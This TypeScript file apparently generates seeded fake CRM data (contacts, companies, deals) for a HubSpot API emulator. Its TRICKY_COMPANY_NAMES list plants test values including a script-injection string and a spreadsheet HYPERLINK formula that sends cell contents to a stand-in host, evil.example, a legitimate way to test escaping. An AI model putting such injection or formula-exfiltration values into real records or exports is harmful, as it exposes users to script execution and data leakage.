import 'server-only';
import { asciiSlug } from '../common/ids';
import { createdAndModified, DATA_EPOCH_END, SeededRandom } from '../common/prng';
import { cachedData, dropScaledData, type EmulatorState, scaledData } from '../common/state';
import {
  COMPANY_STEMS,
  COMPANY_SUFFIXES,
  FIRST_NAMES,
  INDUSTRIES,
  LAST_NAMES,
  TOP_LEVEL_DOMAINS,
  TOPIC_WORDS,
  TRICKY_PERSON_NAMES,
} from '../common/wordlists';
import { CRM_OBJECT_TYPES, type CrmObjectName, type CrmObjectType } from './object-types';

/** The CRM every sandbox portal sees: generated once from a fixed seed. */

export interface CrmRecord {
  id: string;
  properties: Record<string, string | null>;
  createdAt: string;
  updatedAt: string;
  archived: boolean;
  archivedAt: string | null;
  /** Primary associated company. */
  companyId: string | null;
}

export interface CrmTable {
  /** Sorted by numeric id. */
  active: CrmRecord[];
  archived: CrmRecord[];
  byId: Map<string, CrmRecord>;
}

export type CrmData = Record<CrmObjectName, CrmTable>;

export const CRM_COUNTS = { contacts: 1500, companies: 300, deals: 600 } as const;
const ARCHIVED_RATE = 0.025;
const ASSOCIATION_RATE = 0.7;

type PropertyBuilder = (index: number, random: SeededRandom) => { properties: Record<string, string | null>; companyId: string | null };

function generateTable(type: CrmObjectType, random: SeededRandom, activeCount: number, firstId: number, build: PropertyBuilder): CrmTable {
  const table: CrmTable = { active: [], archived: [], byId: new Map() };
  let nextId = firstId;
  let index = 0;
  while (table.active.length < activeCount) {
    const id = String(nextId);
    nextId += random.int(1, 3);
    const archived = index > 20 && random.chance(ARCHIVED_RATE);
    const { created, modified } = createdAndModified(random);
    const built = build(index, random);
    // HubSpot mirrors the primary company in a property (contacts and deals), which Search can return.
    const primaryCompany = type.primaryCompanyProperty ? { [type.primaryCompanyProperty]: built.companyId } : {};
    const record: CrmRecord = {
      id,
      properties: { ...built.properties, ...primaryCompany, createdate: created, [type.modifiedProperty]: modified, hs_object_id: id },
      createdAt: created,
      updatedAt: modified,
      archived,
      archivedAt: archived ? random.timeBetween(Date.parse(modified), DATA_EPOCH_END) : null,
      companyId: built.companyId,
    };
    (archived ? table.archived : table.active).push(record);
    table.byId.set(id, record);
    index += 1;
  }
  return table;
}

// Names real accounts hold: accents, CJK, emoji, markup, and a spreadsheet formula (CSV injection).
const TRICKY_COMPANY_NAMES = [
  'Café Münchën GmbH',
  '株式会社 山田製作所',
  '🚀 Rocket Labs',
  '<b>Bold</b> & Co <script>alert(1)</script>',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open invoice") Ltd',
];

function buildCompany(index: number, random: SeededRandom): { properties: Record<string, string | null>; companyId: null } {
  const stem = random.pick(COMPANY_STEMS);
  const domain = `${asciiSlug(stem, '')}${index}.${random.pick(TOP_LEVEL_DOMAINS)}`;
  let name: string | null = `${stem} ${random.pick(COMPANY_SUFFIXES)}`;
  if (index === 3 || index % 71 === 40) name = null;
  if (index >= 5 && index < 5 + TRICKY_COMPANY_NAMES.length) name = TRICKY_COMPANY_NAMES[index - 5];
  return { properties: { name, domain, industry: random.chance(0.85) ? random.pick(INDUSTRIES) : null }, companyId: null };
}

function contactBuilder(companies: CrmTable): PropertyBuilder {
  return (index, random) => {
    const company = random.chance(ASSOCIATION_RATE) ? random.pick(companies.active) : null;
    let first: string | null = random.pick(FIRST_NAMES);
    let last: string | null = random.pick(LAST_NAMES);
    const tricky = index >= 3 && index < 3 + TRICKY_PERSON_NAMES.length ? TRICKY_PERSON_NAMES[index - 3] : null;
    if (tricky) ({ first, last } = tricky);
    const domain = company?.properties.domain ?? `example.${random.pick(TOP_LEVEL_DOMAINS)}`;
    let email: string | null = `${asciiSlug(`${first} ${last}`, '.') || 'contact'}${index}@${domain}`;
    if (index === 1 || index % 97 === 50) first = last = null;
    if (index === 2 || index % 211 === 100) first = last = email = null;
    return {
      properties: { firstname: first, lastname: last, email, company: company?.properties.name ?? null },
      companyId: company?.id ?? null,
    };
  };
}

const DEAL_STAGES = [
  'appointmentscheduled',
  'qualifiedtobuy',
  'presentationscheduled',
  'decisionmakerboughtin',
  'contractsent',
  'closedwon',
  'closedlost',
] as const;

function dealBuilder(companies: CrmTable): PropertyBuilder {
  return (index, random) => {
    const company = random.chance(ASSOCIATION_RATE) ? random.pick(companies.active) : null;
    const counterpart = company?.properties.name ?? company?.properties.domain ?? random.pick(COMPANY_STEMS);
    return {
      properties: {
        dealname: `${counterpart} — ${random.pick(TOPIC_WORDS)}`,
        amount: random.chance(0.9) ? String(random.int(5, 2000) * 250) : null,
        dealstage: random.pick(DEAL_STAGES),
        pipeline: 'default',
        closedate: random.chance(0.8) ? random.timeBetween(Date.UTC(2020, 0, 1), Date.UTC(2027, 5, 30)) : null,
      },
      companyId: company?.id ?? null,
    };
  };
}

type CrmCounts = Record<CrmObjectName, number>;

function generateCrm(counts: CrmCounts): CrmData {
  const random = new SeededRandom('hubspot-crm-v1');
  const companies = generateTable(CRM_OBJECT_TYPES.companies, random, counts.companies, 9_104_000_001, buildCompany);
  const contacts = generateTable(CRM_OBJECT_TYPES.contacts, random, counts.contacts, 1_001, contactBuilder(companies));
  const deals = generateTable(CRM_OBJECT_TYPES.deals, random, counts.deals, 17_500_000_001, dealBuilder(companies));
  return { contacts, companies, deals };
}

/** How many active records of each type: the `crmCounts` fault, else the normal data set times `dataScale`. */
export function crmCounts(state: EmulatorState): CrmCounts {
  const { dataScale, crmCounts: counts } = state.faults;
  return counts ?? { contacts: CRM_COUNTS.contacts * dataScale, companies: CRM_COUNTS.companies * dataScale, deals: CRM_COUNTS.deals * dataScale };
}

/** The generated CRM every portal starts from (the normal data set unless a benchmark asks for a large account). */
export function crmData(state: EmulatorState): CrmData {
  const counts = crmCounts(state);
  const normal = counts.contacts === CRM_COUNTS.contacts && counts.companies === CRM_COUNTS.companies && counts.deals === CRM_COUNTS.deals;
  if (normal) {
    dropScaledData(state); // the switch was reset, perhaps on another instance: free the large copy here too
    return cachedData(state, 'crm', () => generateCrm(counts));
  }
  // One large copy at a time: switching sizes replaces it instead of piling copies up.
  return scaledData(state, 'crm', `${counts.contacts}:${counts.companies}:${counts.deals}`, () => generateCrm(counts));
}
